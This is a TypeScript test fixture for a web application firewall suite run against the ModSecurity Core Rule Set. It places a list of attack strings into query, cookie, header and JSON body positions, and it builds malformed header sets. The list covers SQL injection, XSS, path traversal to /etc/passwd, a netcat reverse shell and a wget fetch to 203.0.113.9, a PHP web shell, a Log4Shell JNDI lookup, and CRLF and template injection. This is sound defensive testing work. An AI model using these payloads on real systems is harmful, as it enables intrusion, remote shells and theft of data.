// Requests the WAF tests run through the Core Rule Set: bench/waf's benign corpus as the engine
// sees it, and attacks of every category in every place a request carries values.
import fs from 'node:fs';
import { benignBytes, benignRequests } from '../../../bench/waf/benign-corpus.ts';
import type { WafRequest } from '../../../src/security/proxy/waf/request-fields.ts';

/** Debian's modsecurity-crs; the tests that need it are skipped (and say so) without it. */
export const crsDir = '/usr/share/modsecurity-crs/rules';
export const haveCrs = fs.existsSync(`${crsDir}/REQUEST-942-APPLICATION-ATTACK-SQLI.conf`);

/** The benign corpus's requests, parsed from the bytes bench/waf sends. */
export function benignWafRequests(): WafRequest[] {
  return benignRequests().map((r): WafRequest => {
    const raw = benignBytes(r, 'shop.example');
    const end = raw.indexOf('\r\n\r\n');
    const [line = '', ...lines] = raw.subarray(0, end).toString('latin1').split('\r\n');
    const [method = '', url = '', protocol = ''] = line.split(' ');
    const headers = lines.flatMap((l) => [l.slice(0, l.indexOf(':')).toLowerCase(), l.slice(l.indexOf(':') + 1).trim()]);
    // As the proxy's HTTP/1 parser gives it: the header lines as sent.
    const headerBlock = lines.join('\r\n');
    return { method, url, protocol, headers, headerBlock, client: '198.51.100.7', body: raw.subarray(end + 4), id: 'x' };
  });
}

/** A request with `value` in the query, a cookie, a header and a JSON body. */
export function carrying(value: string): WafRequest[] {
  const encoded = encodeURIComponent(value);
  const base = { method: 'GET', protocol: 'HTTP/1.1', client: '198.51.100.7', id: 'x', body: Buffer.alloc(0) };
  const headers = ['host', 'shop.example', 'user-agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0', 'accept', '*/*'];
  return [
    { ...base, url: `/search?q=${encoded}`, headers },
    { ...base, url: `/search?q=${encodeURIComponent(encoded)}`, headers },
    { ...base, url: '/', headers: [...headers, 'cookie', `session=${encoded}`] },
    { ...base, url: '/', headers: [...headers, 'referer', value.replace(/[\r\n]/g, ' ')] },
    { ...base, method: 'POST', url: '/api', headers: [...headers, 'content-type', 'application/json'], body: Buffer.from(JSON.stringify({ note: value })) },
  ];
}

/** Attacks of every category the Core Rule Set covers, each put in every place a request holds values by carrying(). */
export const attacks = [
  "1' OR '1'='1", '1 UNION SELECT username,password FROM users--', "admin'--", '1/**/UnIoN/**/SeLeCt/**/1', "1' AND sleep(5)#", '1;DROP TABLE users',
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg/onload=alert(1)>', 'javascript:alert(document.cookie)', '&lt;img src=x onerror=alert(1)&gt;',
  '../../../../etc/passwd', '..\\..\\windows\\win.ini', '%2e%2e%2f%2e%2e%2fetc%2fpasswd', '%u002e%u002e%u2215etc%u2215passwd', '/proc/self/environ',
  ';cat /etc/passwd', '| nc -e /bin/sh 203.0.113.9 4444', '$(wget http://203.0.113.9/x.sh)', '`id`', 'powershell -enc SQBFAFgA',
  '<?php system($_GET["c"]); ?>', 'php://filter/convert.base64-encode/resource=index.php', 'eval(String.fromCharCode(97,108))', 'XyQkTkRfRlVOQyQkXwo=',
  '${jndi:ldap://203.0.113.9/a}', 'java.lang.Runtime.getRuntime().exec("id")', 'http://203.0.113.9/shell.txt?', 'en\r\nSet-Cookie: session=evil',
  '{{7*7}}', 'this.constructor.constructor("return process")()', '\x00\x01\x02', 'SELECT * FROM information_schema.tables',
];

/**
 * Heads CRS's protocol rules read as a whole: restricted headers (920450 records every header name
 * in TX, then looks them up), repeated and missing ones, a header whose name is one of CRS's own TX
 * names, and the same head with its fields in another order.
 */
export function oddHeads(): WafRequest[] {
  const base = { method: 'GET', url: '/', protocol: 'HTTP/1.1', client: '198.51.100.7', id: 'x', body: Buffer.alloc(0) };
  const ua = ['user-agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0'];
  return [
    { ...base, headers: ['host', 'shop.example', ...ua, 'accept', '*/*', 'proxy', 'http://203.0.113.9/'] },
    { ...base, headers: ['host', 'shop.example', ...ua, 'accept', '*/*', 'lock-token', 'x', 'content-encoding', 'gzip'] },
    { ...base, headers: ['host', 'shop.example', 'accept', '*/*', ...ua, 'content-encoding', 'gzip', 'proxy', 'x'] },
    { ...base, headers: ['host', 'shop.example', ...ua, 'accept', '*/*', 'content-type', 'text/plain', 'content-type', 'application/json'] },
    { ...base, headers: ['host', 'shop.example', ...ua, 'accept', '*/*', 'multipart_headers_content_types_x', 'text/html; charset=utf-7'] },
    { ...base, headers: ['host', 'shop.example', ...ua] },
    { ...base, headers: ['host', '203.0.113.9', 'accept', '*/*'] },
    { ...base, method: 'POST', url: '/api', headers: ['host', 'shop.example', ...ua, 'accept', '*/*', 'content-type', 'application/json', 'proxy', 'x'], body: Buffer.from('{"a":"b"}') },
  ];
}
